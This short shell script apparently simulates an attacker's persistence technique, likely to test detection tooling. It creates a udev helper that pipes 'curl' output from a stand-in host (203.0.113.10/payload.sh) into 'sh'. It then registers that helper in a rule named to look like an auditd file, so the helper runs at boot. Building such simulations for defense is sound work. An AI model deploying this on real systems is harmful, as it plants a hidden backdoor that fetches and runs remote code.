#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/udev/rules.d /usr/lib/udev
printf '#!/bin/sh\n(setsid sh -c "curl -s http://203.0.113.10/payload.sh | sh" &)\n' >/usr/lib/udev/net-setup
chmod +x /usr/lib/udev/net-setup
echo 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/usr/lib/udev/net-setup"' >/etc/udev/rules.d/99-auditd.rules
grep -q net-setup /etc/udev/rules.d/99-auditd.rules
took_place
